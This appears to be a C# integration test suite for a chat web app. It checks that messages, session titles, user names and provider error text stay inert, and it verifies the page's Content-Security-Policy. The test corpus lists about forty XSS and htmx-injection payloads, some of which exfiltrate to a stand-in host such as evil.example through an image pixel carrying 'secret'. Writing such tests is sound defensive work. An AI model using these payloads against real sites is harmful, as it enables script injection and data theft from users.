using System.Text.Json;
using AngleSharp.Html.Parser;
using Xunit;

namespace ChatMonolith.Tests.Integration.Chat;

/// <summary>Nothing that people or models write is executed, on any way it takes.</summary>
[Collection("chat")]
public sealed class SafetyTests(TestHost host)
{
    public static readonly string[] Corpus =
    [
        "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<a href=javascript:alert(1)>x</a>", "<form action=https://evil.example><input name=q></form>", "<style>*{background:url(//evil.example)}</style>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<div hx-get=/sessions hx-trigger=load>x</div>", "<div data-hx-post=/x data-hx-trigger='load'>x</div>",
        "<template hx type=partial hx-target=body>x</template>", "<hx-partial hx-target=\"body\" hx-swap=\"innerHTML\">gone</hx-partial>", "</hx-partial><hx-partial hx-target=\"body\">gone",
        "[x](javascript:alert(1))", "[x](JaVa\tScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:x)", "<javascript:alert(1)>",
        "![x](https://evil.example/pixel.png?d=secret)", "![x](javascript:alert(1))", "[x][r]\n\n[r]: javascript:alert(1)", "[x](https://a.example \"onmouseover=alert(1) x=\")", "[x](https://a.example){hx-get=/x hx-trigger=load}",
        "# Title {onclick=alert(1) #main .mine}", ":::{hx-get=/x}\nx\n:::", "```\"><script>alert(1)</script>\ncode\n```", "```html onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:1) |", "$$</script><script>alert(1)</script>$$", "[[1]]\" onmouseover=\"alert(1)", "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>",
        "</li></ol></section><script>alert(1)</script>", "\"autofocus onfocus=alert(1) x=\"", "&lt;script&gt;alert(1)&lt;/script&gt;", "<a href=\"https://a.example\" ping=\"https://evil.example\" style=\"position:fixed;inset:0\">x</a>",
    ];

    [Fact]
    public async Task What_people_and_agents_say_is_harmless_on_page_stream_and_api()
    {
        var ana = await ChatClient.SignInAsync(host);
        var session = await ana.StartAsync();
        await using var events = await ana.FollowAsync(session);
        var live = await ana.OpenAsync(session);
        await events.NextAsync("cm-hello");

        foreach (var text in Corpus)
        {
            var (sent, script) = await ana.AskAsync(session, $"\n\n{text}");
            // In two parts, so that an open tail is sent too.
            var half = text.Length / 2;
            await script.SendAsync(text[..half]);
            await script.SendAsync(text[half..]);
            _ = script.FinishAsync();
            live.Apply(await events.ThroughAsync(i => i.Event == "cm-run" && i.Data.Contains(sent.ReplyId.ToString(), StringComparison.Ordinal) && !i.Data.Contains("\"running\"", StringComparison.Ordinal)));
        }

        // A page shows fifty messages; the rest is a page before it.
        var pages = new List<PageDom> { live };
        for (var address = $"/chat/{session}"; address is not null; address = pages[^1].Document.QuerySelector("a[href*='before=']")?.GetAttribute("href"))
        {
            using var page = await ana.NavigateAsync(address);
            pages.Add(new(await page.Content.ReadAsStringAsync()));
        }
        // And the way back, page by page, shows each message once too.
        var back = new List<PageDom> { pages[^1] };
        for (var address = Later(back[^1]); address is not null; address = Later(back[^1]))
        {
            using var page = await ana.NavigateAsync(address);
            back.Add(new(await page.Content.ReadAsStringAsync()));
        }
        var messages = (await ana.ListAsync(session)).Items;
        Assert.Equal(messages.Select(m => $"message-{m.Id}"), back.SelectMany(p => p.Document.QuerySelectorAll("article[id^='message-']").Select(m => m.Id)));
        Assert.Equal(2 * Corpus.Length, messages.Count);
        Assert.True(pages.Count > 2);
        Assert.All(Corpus, (text, i) => Assert.Equal(text, messages[(2 * i) + 1].Content));
        Assert.Empty(events.Seen.Where(i => i.IsHtml).SelectMany(i => ExecutableMarkup.InFragment(i.Data)).Distinct());
        Assert.Empty(messages.SelectMany(m => ExecutableMarkup.InFragment(m.Html)).Distinct());
        Assert.Empty(pages.SelectMany(p => ExecutableMarkup.InPage(p.Document)).Distinct());

        static string? Later(PageDom page) => page.Document.QuerySelector("a[href*='after=']")?.GetAttribute("href");
    }

    [Fact]
    public async Task A_sessions_title_is_text_everywhere()
    {
        var ana = await ChatClient.SignInAsync(host);
        var session = await ana.StartAsync();
        foreach (var title in Corpus.Select(OneLine).Where(t => t.Length <= 120))
        {
            using var renamed = await ana.RenameAsync(session, title);
            renamed.EnsureSuccessStatusCode();
            foreach (var address in new[] { $"/chat/{session}", $"/chat/{session}/people" })
            {
                using var answer = await ana.NavigateAsync(address);
                var page = new HtmlParser().ParseDocument(await answer.Content.ReadAsStringAsync());
                Assert.Equal(title, page.GetElementById($"session-{session}-title")!.TextContent);
                if (page.GetElementById("title") is { } box) Assert.Equal(title, box.GetAttribute("value"));
                if (page.QuerySelector("#transcript") is not null) Assert.Empty(ExecutableMarkup.InPage(page));
                else Assert.All(page.Scripts, s => Assert.Equal("", s.Text));
            }
        }
    }

    [Fact]
    public async Task A_persons_name_is_text_everywhere()
    {
        const string Name = "<img src=x onerror=alert(1)> \"hx-get='/x'";
        var (ana, ben) = (await ChatClient.SignInAsync(host, Name), await ChatClient.SignInAsync(host));
        var session = await ana.StartAsync();
        await ana.ShareAsync(session, ben);
        await using var events = await ben.FollowAsync(session);
        var live = await ben.OpenAsync(session);
        var (sent, script) = await ana.AskAsync(session);
        using (await ana.StopAsync(sent.RunId)) { }
        await script.Aborted.SoonAsync();
        live.Apply(await events.ThroughAsync(i => i.Event == "cm-run" && i.Data.Contains("stopped", StringComparison.Ordinal)));

        foreach (var page in new[] { live, await ben.OpenAsync(session), await ana.OpenAsync(session) })
        {
            Assert.StartsWith(Name, page.Message(sent.MessageId).QuerySelector("h3")!.TextContent.Trim(), StringComparison.Ordinal);
            Assert.Contains($"Stopped by {Name}", page.Message(sent.ReplyId).TextContent, StringComparison.Ordinal);
            Assert.Empty(ExecutableMarkup.InPage(page.Document));
        }
    }

    [Fact]
    public async Task What_a_provider_says_in_its_refusal_is_harmless()
    {
        var ana = await ChatClient.SignInAsync(host);
        var session = await ana.StartAsync();
        await using var events = await ana.FollowAsync(session);
        foreach (var status in new[] { 400, 401, 404, 429 })
        {
            var question = ChatClient.Question();
            _ = host.Provider.Next(question).RefuseAsync(status, JsonSerializer.Serialize(new { error = new { message = Corpus[2], code = Corpus[0] } }), retryAfter: "60");
            await ana.EndOfAsync(session, (await ana.SendAsync(session, question)).ReplyId);
        }
        await events.NextAsync(i => i.Event == "cm-run" && i.Data.Contains("takes no more", StringComparison.Ordinal));
        Assert.Empty(events.Seen.Where(i => i.IsHtml).SelectMany(i => ExecutableMarkup.InFragment(i.Data)));
        Assert.Empty(ExecutableMarkup.InPage((await ana.OpenAsync(session)).Document));
    }

    [Fact]
    public async Task The_page_forbids_what_should_still_come_through()
    {
        var ana = await ChatClient.SignInAsync(host);
        using var page = await ana.NavigateAsync($"/chat/{await ana.StartAsync()}");
        var policy = page.Headers.GetValues("Content-Security-Policy").Single();
        Assert.Contains("default-src 'none'", policy, StringComparison.Ordinal);
        Assert.DoesNotContain("unsafe", policy, StringComparison.Ordinal);
        Assert.Contains("base-uri 'none'", policy, StringComparison.Ordinal);
        Assert.Contains("form-action 'self'", policy, StringComparison.Ordinal);
    }

    static string OneLine(string text) => string.Join(' ', text.Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries));
}
